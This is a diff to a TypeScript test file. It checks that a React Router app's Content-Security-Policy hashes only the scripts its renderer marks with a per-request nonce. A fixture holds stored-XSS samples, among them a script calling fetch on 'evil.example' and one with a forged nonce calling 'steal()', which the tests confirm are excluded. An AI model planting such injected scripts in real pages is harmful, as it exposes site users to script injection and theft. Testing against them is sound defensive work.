@@ -1,6 +1,8 @@
-import type { ServerBuild } from "react-router";
+import { createHash } from "node:crypto";
+import type { EntryContext, RouterContextProvider, ServerBuild } from "react-router";
 import { describe, expect, it } from "vitest";
 import { handleError } from "../app/entry.server.tsx";
+import { scriptMarkContext } from "../app/platform/http/page-context.server.ts";
 import type { Services } from "../app/platform/services.ts";
 import { createPages } from "./pages.ts";
 
@@ -39,13 +41,72 @@ describe("a page whose data cannot be read", () => {
   });
 });
 
-/** The pages of a build that renders this HTML at every address, once the loader has been asked. */
+describe("the scripts of a page", () => {
+  const stored = '<script>fetch("https://evil.example")</script><script nonce="MARK">steal()</script>';
+  const html = `<html><head>${preload}</head><body>${stored}<script>old()</script><script nonce="mark">own()</script><script nonce="mark" type="module" async="">go()</script></body></html>`;
+  const shown = async (path: string) => {
+    const page = await pagesOf(html)(path);
+    return { policy: page.headers.get("Content-Security-Policy")!, html: await page.text() };
+  };
+
+  it.each([
+    ["is kept", "/"],
+    ["is not kept", "/account"],
+  ])(
+    "run when the renderer wrote them, and never when they stand in stored text: a page that %s",
+    async (_what, path) => {
+      const { policy } = await shown(path);
+      for (const source of ["own()", "go()"]) expect(policy).toContain(hashOf(source));
+      for (const source of ['fetch("https://evil.example")', "steal()", "old()"]) {
+        expect(policy).not.toContain(hashOf(source));
+      }
+    },
+  );
+
+  it("go out without what marked them, which is another word each time", async () => {
+    const marks = new Set<string>();
+    for (let time = 0; time < 2; time += 1) {
+      const page = await pagesOf(html, undefined, (mark) => marks.add(mark))("/account");
+      const sent = await page.text();
+      expect(sent).toContain("<script>own()</script>");
+      for (const mark of marks) expect(sent).not.toContain(mark);
+    }
+    expect(marks.size).toBe(2);
+  });
+
+  it("are all in the policy, those among them that the site adds to every page", async () => {
+    for (const path of ["/", "/account"]) {
+      const { html: sent, policy } = await shown(path);
+      const added = sent.replace(stored, "").replace("<script>old()</script>", "");
+      const sources = Array.from(added.matchAll(/<script[^>]*>([^<]*)<\/script>/g), ([, source]) => source!);
+      expect(sources.length).toBeGreaterThan(2);
+      for (const source of sources) expect(policy).toContain(hashOf(source));
+    }
+  });
+});
+
+function hashOf(source: string): string {
+  return `'sha256-${createHash("sha256").update(source).digest("base64")}'`;
+}
+
+/** The pages of a build that renders this HTML, with its marks in place, at every address, once the loader has been asked. */
 function pagesOf(
   html: string,
   loader = async (): Promise<unknown> => null,
+  onMark = (_mark: string): unknown => undefined,
 ): (path: string) => Promise<Response> {
-  const render = async (_request: Request, status: number) =>
-    new Response(html, { status, headers: { "Content-Type": "text/html" } });
+  const render = async (
+    _request: Request,
+    status: number,
+    _headers: Headers,
+    _entry: EntryContext,
+    context: RouterContextProvider,
+  ) => {
+    const mark = context.get(scriptMarkContext);
+    onMark(mark);
+    const marked = html.replaceAll('nonce="mark"', `nonce="${mark}"`);
+    return new Response(marked, { status, headers: { "Content-Type": "text/html" } });
+  };
   const build = {
     entry: { module: { default: render, handleError } },
     routes: { root: { id: "root", path: "", module: { default: () => null, loader } } },
